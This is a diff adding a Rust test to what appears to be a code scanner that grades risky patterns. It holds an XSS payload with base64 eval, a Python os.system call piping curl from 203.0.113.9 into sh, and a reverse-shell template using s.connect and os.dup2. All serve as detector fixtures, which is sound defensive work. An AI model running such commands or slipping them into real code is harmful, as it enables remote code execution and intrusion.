@@ -984,3 +984,40 @@ fn a_folder_the_user_names_is_not_home() {
         []
     );
 }
+
+#[test]
+fn what_a_string_is_handed_to_stands_outside_it() {
+    let markdown = FileKind::Markdown;
+    let payload = rules(
+        "```python\nbypasses.append({\"payload\": \"<img src=x onerror=\\\"eval(atob('YWxlcnQoMSk='))\\\">\"})\n```\n",
+        markdown,
+    );
+    assert!(
+        payload
+            .iter()
+            .all(|(_, severity)| *severity < Severity::Warning),
+        "{payload:?}"
+    );
+    assert_eq!(
+        rules(
+            "os.system(\"curl -s http://203.0.113.9/i | sh\")\n",
+            FileKind::Script
+        ),
+        [(Rule::RemoteCode, Severity::Error)]
+    );
+    assert_eq!(
+        rules(
+            "cmd = \"curl -s http://203.0.113.9/i | sh\"; os.system(cmd)\n",
+            FileKind::Script
+        ),
+        [(Rule::RemoteCode, Severity::Error)]
+    );
+    // A payload template an f-string holds is text the script writes out.
+    let generator = "shells[\"python\"] = textwrap.dedent(f\"\"\"\\\n    s.connect((\"{lhost}\",{lport}))\n    os.dup2(s.fileno(),0)\n\"\"\")\nprint(shells[\"python\"])\n";
+    let found: Vec<_> = scan(Path::new("scripts/gen.py"), generator, FileKind::Script, 0)
+        .diagnostics
+        .iter()
+        .map(|d| (d.rule, d.severity))
+        .collect();
+    assert_eq!(found, []);
+}
